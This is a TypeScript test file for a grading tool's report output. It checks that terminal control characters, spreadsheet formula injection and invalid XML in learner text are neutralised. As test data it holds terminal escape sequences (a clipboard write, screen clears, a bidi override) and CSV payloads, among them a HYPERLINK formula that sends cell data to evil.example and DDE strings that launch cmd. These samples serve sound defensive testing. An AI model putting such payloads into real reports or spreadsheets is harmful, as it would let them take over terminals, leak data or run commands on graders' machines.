// Grading reports carry learner-controlled text (FAIL messages quote what the lab serves, check
// output, submission names): printed, it must not drive the grader's terminal; in CSV it must not
// become a formula; in JUnit it must stay well-formed XML 1.0.
import { describe, expect, it } from 'vitest';
import type { CheckResult } from '../../shared/api.js';
import type { Graded } from '../../server/check/grade.js';
import { commonMistakes, commonMistakesText, summaryTable, toCsv, toJunit } from '../../server/check/report.js';

/** Raw characters a terminal acts on (all C0 but \n and \t, DEL, C1) and bidi overrides. */
const TERMINAL_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

const HOSTILE =
  'nope \u001b]52;c;ZWNobyBvd25lZA==\u0007 \u001b[2J\u001b[H \u009b31m \u001bP+q\u001b\\ \u202egnp.exe\u202c \rPASS\u0008\u0008 \u0085';

function graded(name: string, tests: Partial<CheckResult>[]): Graded {
  const full = tests.map((t, i) => ({ name: `check-${i}`, task_id: 'serve', host: 'web', status: 'fail', message: '', output: '', duration_ms: 5, ...t }) as CheckResult);
  return { submission: name, durationMs: 1200, results: { version: 3, status: full.some((t) => t.status !== 'pass') ? 'fail' : 'pass', message: '', tests: full } };
}

/** RFC 4180 fields of one CSV text (quoted fields may hold commas, quotes and newlines). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      for (i++; i < text.length; i++) {
        if (text[i] === '"' && text[i + 1] === '"') {
          cell += '"';
          i++;
        } else if (text[i] === '"') break;
        else cell += text[i];
      }
      i++;
    } else for (; i < text.length && text[i] !== ',' && text[i] !== '\n'; i++) cell += text[i];
    row.push(cell);
    if (text[i] === ',') i++;
    else if (text[i] === '\n' || i >= text.length) {
      rows.push(row);
      row = [];
      i++;
    }
  }
  return rows;
}

describe('the summary table printed to the grader', () => {
  it('shows escape sequences in a FAIL message as visible text, not as control characters', () => {
    const table = summaryTable([graded('evil\u001b[31m\u202e', [{ status: 'fail', message: HOSTILE }]), graded('good', [{ status: 'pass', message: 'ok' }])]);
    expect(table).not.toMatch(TERMINAL_CONTROL);
    expect(table).toContain('\\x1b]52;c;');
    expect(table).toContain('evil\\x1b[31m\\u202e');
    expect(table.split('\n')).toHaveLength(4);
  });
});

describe('CSV of grading results', () => {
  it('neutralises cells that a spreadsheet would run as a formula, and quotes them properly', () => {
    const messages = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2', '@SUM(A1:A9)', '\t=1', '\r=1', 'a; b', 'fine, "quoted"'];
    const csv = toCsv([graded('=cmd|\'/c calc\'!A1', messages.map((message) => ({ message })))]);
    const rows = parseCsv(csv);
    expect(rows[0]).toEqual(['submission', 'task', 'check', 'status', 'message', 'duration_ms', 'message_key']);
    expect(rows).toHaveLength(messages.length + 1);
    for (const row of rows) {
      expect(row).toHaveLength(7);
      for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r\n]/);
    }
    expect(rows[1]![0]).toBe("'=cmd|'/c calc'!A1");
    // A CR is also shown rather than kept (the file is read with `cat` too).
    expect(rows.map((r) => r[4])).toEqual(['message', `'${messages[0]}`, `'${messages[1]}`, "'-2", "'@SUM(A1:A9)", "'\t=1", "'\\x0d=1", 'a; b', 'fine, "quoted"']);
    expect(csv).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"');
    expect(csv).toContain('"a; b"');
  });
});

describe('JUnit XML of grading results', () => {
  it('escapes markup and drops what XML 1.0 cannot hold', () => {
    const junit = toJunit({
      exercise: 'web-serve',
      graded: [graded('s<1>&"', [{ status: 'fail', message: `a"b'<c>&\n\u0000\u001b[2J\ud800\uffff`, output: `out\u0001put\udfff]]>\u009b` }])],
    });
    // XML 1.0 Char: #x9 | #xA | #xD | [#x20-#xD7FF] | [#xE000-#xFFFD] | [#x10000-#x10FFFF]
    expect(junit).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/);
    expect(junit).not.toMatch(TERMINAL_CONTROL);
    expect(junit).toContain('<testsuite name="s&lt;1&gt;&amp;&quot;"');
    expect(junit).toContain('message="a&quot;b&apos;&lt;c&gt;&amp;&#10;');
    expect(junit).not.toContain(']]>');
  });
});

describe('message keys in grading reports', () => {
  const cohort = [
    graded('alice', [{ status: 'fail', message: 'No VIP on rs1', message_key: 'no-vip' }, { status: 'pass', message: 'ok', message_key: 'vip-up' }]),
    graded('bob', [{ status: 'fail', message: 'No VIP on rs2', message_key: 'no-vip' }, { status: 'fail', message: 'arp', message_key: 'arp-answers' }]),
    graded('carol', [{ status: 'fail', message: 'free text' }, { status: 'error', message: 'timeout', message_key: 'check.timeout' }, { status: 'fail', message: 'x', message_key: 'arp-answers' }]),
    graded('dave', [{ status: 'fail', message: 'y', message_key: 'a-key' }]),
  ];

  it('gives the CSV a message_key column, empty for a check without one', () => {
    const rows = parseCsv(toCsv(cohort));
    expect(rows.slice(1).map((r) => r[6])).toEqual(['no-vip', 'vip-up', 'no-vip', 'arp-answers', '', 'check.timeout', 'arp-answers', 'a-key']);
  });

  it('gives JUnit failures and errors the key as their type', () => {
    const junit = toJunit({ exercise: 'lvs-dr', graded: cohort });
    expect(junit).toContain('<failure type="no-vip" message="No VIP on rs1">');
    expect(junit).toContain('<error type="check.timeout" message="timeout">');
    expect(junit).toContain('<failure message="free text">');
  });

  it('counts the failed checks by key, most first then by key, errors and free text left out, at most top', () => {
    expect(commonMistakes(cohort)).toEqual([
      { key: 'arp-answers', count: 2 },
      { key: 'no-vip', count: 2 },
      { key: 'a-key', count: 1 },
    ]);
    expect(commonMistakes(cohort, 1)).toEqual([{ key: 'arp-answers', count: 2 }]);
    const many = Array.from({ length: 12 }, (_, i) => graded(`s${i}`, [{ status: 'fail', message: '', message_key: `k${String(i).padStart(2, '0')}` }]));
    expect(commonMistakes(many)).toHaveLength(10);
    expect(commonMistakesText(cohort)).toBe('Most common mistakes (message key: failed checks):\n  2  arp-answers\n  2  no-vip\n  1  a-key');
    expect(commonMistakesText([graded('x', [{ status: 'fail', message: 'free' }])])).toBe('');
  });
});
